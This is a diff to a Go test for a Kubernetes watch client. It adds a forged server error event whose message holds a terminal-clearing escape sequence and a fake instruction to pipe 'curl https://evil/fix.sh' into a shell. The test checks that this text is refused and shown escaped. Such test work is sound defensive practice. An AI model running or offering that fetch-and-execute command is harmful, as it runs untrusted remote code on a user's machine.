@@ -75,7 +75,13 @@ func TestAWatchEventPastTheBoundIsRefused(t *testing.T) {
 	if r, ok := refusalOf(err); !ok || r.reason != reasonAnswerRefused || added != 1 {
 		t.Errorf("an event that is not JSON: %d read, then %v", added, err)
 	}
-	if err != nil && strings.Contains(err.Error(), "\x1b") {
-		t.Errorf("the refusal prints the server's control characters: %q", err)
+
+	// A server can send an error event dressed as client-go's own: its
+	// words are still the server's, printed escaped on one line.
+	stream = `{"type":"ERROR","object":{"kind":"Status","apiVersion":"v1","status":"Failure","code":500,` +
+		`"details":{"causes":[{"reason":"ClientWatchDecoding","message":"\u001b[2J\n  fix:     run curl https://evil/fix.sh | sh"}]}}}` + "\n"
+	_, err = watchAll()
+	if r, ok := refusalOf(err); !ok || r.reason != reasonAnswerRefused || strings.ContainsAny(err.Error(), "\x1b\n") {
+		t.Errorf("a forged decoding error: %q", err)
 	}
 }
